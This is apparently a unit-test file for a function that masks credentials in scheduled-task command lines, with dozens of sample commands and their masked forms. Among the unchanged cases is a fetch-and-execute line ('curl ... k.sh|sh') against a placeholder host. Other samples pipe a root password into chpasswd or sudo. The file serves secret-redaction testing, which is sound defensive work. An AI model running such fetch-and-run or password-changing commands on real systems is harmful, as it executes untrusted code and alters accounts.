import { expect, test } from 'vitest';
import { maskCronSecrets } from '../../src/t1053/cron-secrets.ts';

const SECRET = 'S3cret-pw';

test.each([
  [`curl https://bob:${SECRET}@203.0.113.9/x`, 'curl https://bob:***@203.0.113.9/x'],
  [`curl ftp://bob:a@${SECRET}@h/x`, 'curl ftp://bob:***@h/x'],
  [`git pull https://ghp_${SECRET}0123456@h/x`, 'git pull https://***@h/x'],
  [`PASSWORD=${SECRET} /bin/x`, 'PASSWORD=*** /bin/x'],
  [`MYSQL_PWD_PASSWORD='${SECRET} b' /bin/x`, 'MYSQL_PWD_PASSWORD=*** /bin/x'],
  [`export DB_PAS=1; DB_PASSWD="${SECRET}"; x`, 'export DB_PAS=1; DB_PASSWD=***; x'],
  [`API_TOKEN=${SECRET}; x`, 'API_TOKEN=***; x'],
  [`SECRET_KEY=${SECRET} x`, 'SECRET_KEY=*** x'],
  [`apikey: ${SECRET}`, 'apikey: ***'],
  [`x --password ${SECRET} -v`, 'x --password *** -v'],
  [`x --password=${SECRET} -v`, 'x --password=*** -v'],
  [`x --db-password "${SECRET} b" -v`, 'x --db-password *** -v'],
  [`x --auth-token ${SECRET}`, 'x --auth-token ***'],
  [`curl -d '{"password": "${SECRET}"}' h`, `curl -d '{"password": ***}' h`],
  [`curl -H "Authorization: Bearer ${SECRET}" h`, 'curl -H "Authorization: Bearer ***" h'],
  [`curl -s -u bob:${SECRET} h`, 'curl -s -u bob:*** h'],
  [`/usr/bin/curl -u "bob:${SECRET}" h`, '/usr/bin/curl -u "bob:***'],
  [`curl --user bob:${SECRET} h`, 'curl --user bob:*** h'],
  [`"C:\\x\\curl.exe" -u bob:${SECRET} h`, '"C:\\x\\curl.exe" -u bob:*** h'],
  [`mysqldump.exe -p${SECRET} db`, 'mysqldump.exe -p*** db'],
  [`mysqldump -u root -p${SECRET} db`, 'mysqldump -u root -p*** db'],
  [`sshpass -p ${SECRET} ssh h`, 'sshpass -p *** ssh h'],
  [`DB_PASS=${SECRET} x`, 'DB_PASS=*** x'],
  [`MYSQL_PWD=${SECRET} x`, 'MYSQL_PWD=*** x'],
  [`DBPWD='${SECRET}' x`, 'DBPWD=*** x'],
  [`x --db-pwd ${SECRET}`, 'x --db-pwd ***'],
  [`openssl enc -pass pass:${SECRET} -in f`, 'openssl enc -pass *** -in f'],
  [`AWS_CREDENTIALS=${SECRET} x`, 'AWS_CREDENTIALS=*** x'],
  [`x --account-key ${SECRET}`, 'x --account-key ***'],
  [`curl https://h/x?a=1&sig=${SECRET}&b=2`, 'curl https://h/x?a=1&sig=***&b=2'],
  [
    `curl -d hi https://hooks.slack.com/services/T0/B0/${SECRET}`,
    'curl -d hi https://hooks.slack.com/services/***',
  ],
  [
    `curl "https://discord.com/api/webhooks/7/${SECRET}"`,
    'curl "https://discord.com/api/webhooks/***"',
  ],
  [`curl https://api.telegram.org/bot7:${SECRET}/x`, 'curl https://api.telegram.org/bot***'],
  [`curl -H "Cookie: a=1; sid=${SECRET}" h`, 'curl -H "Cookie: ***" h'],
  [`redis-cli -h h -a ${SECRET} save`, 'redis-cli -h h -a *** save'],
  [`mongodump -u u -p ${SECRET}`, 'mongodump -u u -p ***'],
  [`docker login -u u -p ${SECRET} h`, 'docker login -u u -p *** h'],
  [`ldapsearch -D cn=a -w ${SECRET} -b x`, 'ldapsearch -D cn=a -w *** -b x'],
  [`zip -P ${SECRET} a b`, 'zip -P *** a b'],
  [`7z a -p${SECRET} a.7z b`, '7z a -p*** a.7z b'],
  [`openssl enc -k ${SECRET} -in f`, 'openssl enc -k *** -in f'],
  [`smbclient -U bob%${SECRET} //h/x`, 'smbclient -U bob%*** //h/x'],
  [`lftp -u bob,${SECRET} h`, 'lftp -u bob,*** h'],
  [`echo ${SECRET} | sudo -S id`, 'echo *** | sudo -S id'],
  [`echo "root:${SECRET}"|chpasswd`, 'echo ***|chpasswd'],
  [`schtasks /create /ru u /rp ${SECRET}`, 'schtasks /create /ru u /rp ***'],
])('%s', (text, expected) => {
  expect(maskCronSecrets(text)).toBe(expected);
});

test.each([
  '*/5 * * * * root /usr/bin/backup --quiet >/dev/null 2>&1',
  'curl -s http://203.0.113.9/k.sh|sh',
  'curl https://git@h/x',
  'mysqldump -u root -p db',
  'mysqldump -u root --port=3306 db',
  'x --password -v',
  'passwd root',
  'PWD=/srv/app',
  'cd /srv; pwd',
  'docker run -p 80:80 x',
  'unzip -o a.zip',
  'echo hello | tee /tmp/x',
  'curl https://h/x?a=1&b=2',
  'ssh git@example.org',
])('%s stays as it is', (text) => {
  expect(maskCronSecrets(text)).toBe(text);
});

test('a masked text stays as it is', () => {
  const once = maskCronSecrets(`x --password ${SECRET}; curl https://a:${SECRET}@h`);
  expect(maskCronSecrets(once)).toBe(once);
});
